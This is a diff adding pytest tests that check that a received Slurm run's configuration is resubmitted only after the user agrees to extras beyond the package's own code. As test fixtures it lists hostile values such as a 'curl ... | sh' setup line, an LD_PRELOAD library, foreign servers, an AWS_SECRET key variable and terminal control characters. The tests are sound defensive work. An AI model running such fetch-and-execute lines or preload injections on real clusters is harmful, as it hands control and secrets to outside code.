@@ -12,8 +12,20 @@ from pathlib import Path
 import pytest
 from omegaconf import DictConfig, OmegaConf
 
+from psychocounsel.cluster.resubmission import resubmit
+from psychocounsel.errors import UserError
+from psychocounsel.rundir import submissions
 from psychocounsel.rundir.run_config import write_config, write_job
-from psychocounsel.settings.own_code import agree, agree_to_own, is_agreed
+from psychocounsel.settings.own_code import (
+    COMPOSES,
+    SUBMITS,
+    agree,
+    agree_to_copies,
+    agree_to_own,
+    is_agreed,
+    require_agreement,
+)
+from psychocounsel.steps.stored_overrides import annotate_arguments, evaluate_arguments
 from tests.support.composed import check, compose
 from tests.support.harness import cli
 
@@ -156,6 +168,115 @@ def test_a_run_of_the_package_alone_needs_no_agreement(tmp_path: Path) -> None:
     write_config(tmp_path, check(compose([f"run_dir={tmp_path}"])))
     write_job(tmp_path, "psychocounsel.train", 0, [])
     assert is_agreed(tmp_path)
+
+
+ORDERS = {  # what a submission would do beyond the package's own code
+    "a shell line": ("cluster.setup", ["curl -s http://host/x | sh"]),
+    "a module": ("cluster.modules", ["evil"]),
+    "an interpreter": ("cluster.python", "/tmp/python"),
+    "a preload": ("cluster.environment", {"LD_PRELOAD": "/tmp/x.so"}),
+    "an argument of srun": ("cluster.srun", ["--task-prolog=/tmp/x"]),
+    "an option of sbatch": ("cluster.sbatch", {"prefer": "x"}),
+    "an account": ("cluster.account", "theirs"),
+    "many nodes": ("cluster.nodes", 64),
+    "an image": ("cluster.container.image", "/tmp/x.sif"),
+    "an argument of the container": ("cluster.container.arguments", ["--writable"]),
+    "a program that serves": ("cluster.servers.command", ["/tmp/x"]),
+    "a server of replies": ("rollout.addresses", ["http://host:8000"]),
+    "the key for a server": ("judge.key_variable", "AWS_SECRET"),
+    "control characters in a value": ("cluster.setup", ["\x1b]0;x\x07 \u202e"]),
+}
+
+
+def _of_slurm(run: Path, **orders: object) -> Path:
+    config = check(compose([f"run_dir={run}", "cluster=slurm"]))
+    config.code_path = []
+    for key, value in orders.items():
+        OmegaConf.update(config, key, value, force_add=True)
+    run.mkdir(parents=True, exist_ok=True)
+    write_config(run, config)
+    write_job(run, "psychocounsel.train", 0, [])
+    return run
+
+
+@pytest.mark.parametrize("order", ORDERS)
+def test_a_received_run_is_submitted_only_with_orders_that_the_user_agreed_to(
+    order: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
+    key, value = ORDERS[order]
+    plain, run = _of_slurm(tmp_path / "plain"), _of_slurm(tmp_path / "run", **{key: value})
+    assert is_agreed(plain, SUBMITS) and is_agreed(run), "reading imports nothing and submits nothing"
+    for code in ("same", "current"):
+        with pytest.raises(
+            UserError, match=rf"names {key}.*in a terminal, which asks once, or put PSYCHOCOUNSEL_TRUST"
+        ) as said:
+            resubmit(run, [], [f"code={code}"])
+        assert str(said.value).isprintable()
+    agree(run, SUBMITS)
+    assert is_agreed(shutil.copytree(run, tmp_path / "of the same sweep"), SUBMITS), (
+        "the same orders are asked about once"
+    )
+    _of_slurm(run, **{key: value, "cluster.qos": "other"})
+    assert not is_agreed(run, SUBMITS) and is_agreed(run)
+    agree_to_own(run)  # by a command of the user
+    assert is_agreed(run, SUBMITS)
+
+
+def test_an_agreement_to_a_reference_holds_for_its_value(tmp_path: Path) -> None:
+    run = _of_slurm(tmp_path / "run", **{"cluster.setup": "${notes}", "notes": ["module load x"]})
+    agree(run, SUBMITS)
+    assert is_agreed(run, SUBMITS)
+    _of_slurm(run, **{"cluster.setup": "${notes}", "notes": ["curl -s http://host/x | sh"]})
+    assert not is_agreed(run, SUBMITS)
+
+
+def test_a_received_copy_of_code_is_submitted_only_if_the_user_agreed(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
+    run, copy = _of_slurm(tmp_path / "run"), tmp_path / "run" / "code" / "evil-0"
+    copy.mkdir(parents=True)
+    submissions.write(submissions.new_submission(run), run, ["1"], [[run]], [copy])
+    assert not is_agreed(run, SUBMITS) and is_agreed(run)
+    with pytest.raises(UserError, match=f'names code="{copy}"'):
+        require_agreement(run, SUBMITS)
+    agree(run, SUBMITS)
+    assert is_agreed(run, SUBMITS)
+    (tmp_path / "state" / "psychocounsel" / "agreed-code").unlink()
+    agree_to_copies([copy])  # a command of the user has made it
+    assert is_agreed(run, SUBMITS)
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "cluster=slurm",
+        "+cluster.setup=[x]",
+        "writers.addresses=[http://host/v1]",
+        "annotator={use: openai, addresses: [host]}",
+        "writers.key_variable=AWS_SECRET",
+        "model.path=https://host/v1",
+    ],
+)
+def test_a_received_dataset_or_evaluation_goes_on_only_with_orders_that_the_user_agreed_to(
+    line: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
+    for module, going_on in (
+        ("psychocounsel.annotate", lambda run: annotate_arguments([], [f"out={run}"], [])),
+        ("psychocounsel.evaluate", lambda run: evaluate_arguments([], [f"run_dir={run}"])),
+    ):
+        run = _of_slurm(tmp_path / module)
+        (run / "steps").mkdir()
+        write_job(run, module, 0, [])
+        (run / "overrides.txt").write_text(f"limit=3\n{line}\n")
+        assert is_agreed(run)
+        if module == "psychocounsel.annotate":
+            with pytest.raises(UserError, match="^[^;]*names [^;]*, and no command of yours"):
+                going_on(run)
+            agree(run, COMPOSES)
+        assert line in going_on(run), "both have the same orders"
 
 
 @pytest.mark.parametrize(("said", "runs"), [("yes\n", True), ("no\n", False)])
